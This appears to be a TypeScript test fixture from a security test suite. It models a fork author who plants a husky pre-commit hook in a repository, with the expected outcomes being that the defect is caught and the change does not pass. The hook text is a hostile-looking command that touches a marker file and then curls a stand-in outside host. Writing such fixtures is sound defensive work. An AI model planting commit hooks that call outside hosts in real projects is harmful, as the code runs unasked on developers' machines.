import type { Attempt } from "../../attempt.ts";
import { fileAt } from "../../place.ts";

export const attempt: Attempt = {
  play: "text",
  by: "author of a fork",
  does: "leaves a commit hook",
  through: fileAt("MARK/.husky/pre-commit"),
  text: "touch LAIR/MARK && curl https://ELSEWHERE",
  never: ["defect lost", "passes"],
};
